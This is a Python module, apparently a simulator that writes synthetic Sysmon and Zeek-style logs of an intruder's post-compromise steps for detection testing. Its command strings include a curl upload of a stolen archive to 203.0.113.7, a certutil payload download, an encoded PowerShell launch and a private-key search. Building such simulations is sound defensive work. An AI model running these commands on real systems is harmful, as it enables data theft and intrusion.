"""What somebody does on a machine once they have come, and what its own user does there in the same way."""

from __future__ import annotations

from enum import StrEnum
from typing import Final

import msgspec

from graphcorr.simulate import administration as admin
from graphcorr.simulate.estate import DOMAIN, SECOND, Host
from graphcorr.simulate.moves import CMD, Ground, Logging, Session

_SYSTEM32: Final = "C:\\Windows\\System32"
_RAR: Final = r"C:\Program Files\WinRAR\Rar.exe"
_POWERSHELL: Final = rf"{_SYSTEM32}\WindowsPowerShell\v1.0\powershell.exe"
_STEP: Final = 20 * SECOND
_OUTSIDE: Final = "203.0.113.7"
_PUBLISHED: Final = r"C:\inetpub\wwwroot"


class Told(StrEnum):
    """As what a deed is to be told."""

    BESIDE = "beside"  # the finding that says who came
    OBSERVED = "observed"  # on its machine: no record of it names a process or an account
    FOUND = "found"  # by itself


class Deed(msgspec.Struct, frozen=True):
    """Something done on a machine that a technique describes; ``ours`` by whoever came, else by its own user. Microseconds."""

    technique: str
    target: str
    time: int
    ours: bool
    told: Told = Told.BESIDE


class Doer:
    """Does one thing after the other, and keeps what is true of it."""

    def __init__(self, ground: Ground) -> None:
        self.ground = ground
        self.done: list[Deed] = []
        self.asked: list[dict[str, object]] = []
        """What a monitor of the network logs of requests, as Zeek's http.log in JSON."""

    def do(self, host: Host, by: Session, time: int, *, ours: bool) -> None:
        """Ask, pack, send, look for keys, fetch, run and delete, in a session; with Sysmon what its other records show as well."""
        number = self.ground.number()
        folder = rf"C:\Users\Public\{number}"
        lines = (
            ("T1082", rf"{_SYSTEM32}\systeminfo.exe", "systeminfo"),
            ("T1007", rf"{_SYSTEM32}\sc.exe", "sc query state= all"),
            ("T1560.001", _RAR, rf'"{_RAR}" a -r -hpSecret {folder}.rar C:\Docs'),
            ("T1048", rf"{_SYSTEM32}\curl.exe", rf"curl -T {folder}.rar https://203.0.113.7/in/"),
            ("T1552.004", rf"{_SYSTEM32}\findstr.exe", r"findstr /s /m BEGIN C:\Users\*.ppk"),
            ("T1105", rf"{_SYSTEM32}\certutil.exe", rf"certutil -urlcache -split -f http://203.0.113.7/x {folder}.exe"),
            (None, rf"{folder}.exe", rf"{folder}.exe -s"),
            ("T1059.001", _POWERSHELL, "powershell -noP -sta -w 1 -enc SQBmACgAJABQAFMA"),
            ("T1070.004", CMD, rf"cmd.exe /c del /q {folder}.exe"),
        )
        for place, (technique, image, line) in enumerate(lines):
            when = time + place * _STEP
            self.ground.start(when, host, image, line, CMD, by=by)
            self._keep(technique, host, when, ours=ours)
        if self.ground.logging is Logging.SYSMON:
            by_process = {"pid": "6120", "guid": self.ground.guid()}
            when = time + len(lines) * _STEP
            user = rf"{DOMAIN}\{by.owner.user}"
            self.ground.log(when, host, admin.time_changed(rf"{folder}.dll", rf"{folder}.exe", user, **by_process))
            self._keep("T1070.006", host, when, ours=ours)
            self.ground.log(when + _STEP, host, admin.page_set(rf"{_SYSTEM32}\reg.exe", "http://203.0.113.7/p", user, **by_process))
            self._keep("T1137.004", host, when + _STEP, ours=ours)

        # A digest of 128 digits is what people put into addresses.
        self._ask(host.address, _OUTSIDE, f"/index.php?data={'6a' * (80 if ours else 64)}", time)
        self.done.append(Deed("T1132.001", host.fqdn, time, ours, Told.OBSERVED))

    def stage(self, server: Host, by: Session, time: int, *, ours: bool) -> None:
        """Put an archive where a web server gives it away, and fetch it from outside; the web site's own people put a page there."""
        name = f"{self.ground.number()}.{'rar' if ours else 'html'}"
        self.ground.write(time, server, ("wwwroot$", _PUBLISHED), name, by)
        self._ask(_OUTSIDE, server.address, f"/{name}", time + _STEP)
        if self.ground.logging is not Logging.DEFAULT:
            self.done.append(Deed("T1074.002", server.fqdn, time, ours, Told.FOUND))

    def _ask(self, client: str, server: str, uri: str, time: int) -> None:
        ends = {"id.orig_h": client, "id.orig_p": 50_000 + self.ground.number(), "id.resp_h": server, "id.resp_p": 80}
        row = {"method": "GET", "host": "www.example", "uri": uri, "status_code": 200, "request_body_len": 0, "response_body_len": 9_000}
        self.asked.append({"_path": "http", "ts": time / SECOND, "uid": f"C{self.ground.number()}", **ends, "trans_depth": 1, **row})

    def _keep(self, technique: str | None, host: Host, time: int, *, ours: bool) -> None:
        if technique is not None and self.ground.logging is not Logging.DEFAULT:
            self.done.append(Deed(technique, host.fqdn, time, ours))
